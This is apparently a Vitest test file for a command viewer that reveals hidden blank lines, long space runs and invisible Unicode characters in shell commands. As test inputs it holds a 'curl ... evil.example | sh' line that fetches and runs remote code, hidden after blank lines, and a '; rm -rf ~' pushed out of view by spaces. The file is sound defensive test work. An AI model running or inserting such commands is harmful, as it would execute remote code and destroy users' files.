// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { commandView, lineCount } from './cmdview';

describe('commandView', () => {
  it('collapses a run of blank lines into one that says how many it hid', () => {
    const cmd = 'echo harmless' + '\n'.repeat(31) + 'curl -fsSL https://evil.example/x | sh';
    const v = commandView(cmd);
    expect(v).toEqual([
      { kind: 'line', pieces: [{ kind: 'text', text: 'echo harmless' }] },
      { kind: 'blank', count: 30 },
      { kind: 'line', pieces: [{ kind: 'text', text: 'curl -fsSL https://evil.example/x | sh' }] },
    ]);
    expect(lineCount(cmd)).toBe(32);
  });

  it('counts lines of spaces, CRs and Unicode line separators as blank lines too', () => {
    const v = commandView('a\n   \r\n\t\u2028\r\nb');
    expect(v.map((l) => l.kind)).toEqual(['line', 'blank', 'line']);
    expect(v[1]).toEqual({ kind: 'blank', count: 3 });
  });

  it('keeps one blank line as it is', () => {
    expect(commandView('a\n\nb').map((l) => l.kind)).toEqual(['line', 'line', 'line']);
  });

  it('shows bidi overrides, zero-width and control characters as code points', () => {
    const v = commandView('ls \u202etxt.hs\u202c \u200bx\u0007\u2066y\u2069\ufeff');
    expect(v).toHaveLength(1);
    const line = v[0];
    if (line.kind !== 'line') throw new Error('not a line');
    expect(line.pieces.filter((p) => p.kind === 'invisible').map((p) => (p.kind === 'invisible' ? p.code : ''))).toEqual([
      'U+202E',
      'U+202C',
      'U+200B',
      'U+0007',
      'U+2066',
      'U+2069',
      'U+FEFF',
    ]);
    expect(line.pieces.filter((p) => p.kind === 'text').map((p) => (p.kind === 'text' ? p.text : '')).join('')).toBe('ls txt.hs xy');
  });

  it('says how long a run of spaces is that pushes text out of sight', () => {
    const v = commandView('echo ok' + ' '.repeat(300) + '; rm -rf ~');
    const line = v[0];
    if (line.kind !== 'line') throw new Error('not a line');
    expect(line.pieces).toEqual([
      { kind: 'text', text: 'echo ok' },
      { kind: 'spaces', count: 300 },
      { kind: 'text', text: '; rm -rf ~' },
    ]);
  });

  it('leaves an ordinary command as it is', () => {
    expect(commandView("ls -l 'my themes'")).toEqual([{ kind: 'line', pieces: [{ kind: 'text', text: "ls -l 'my themes'" }] }]);
  });
});
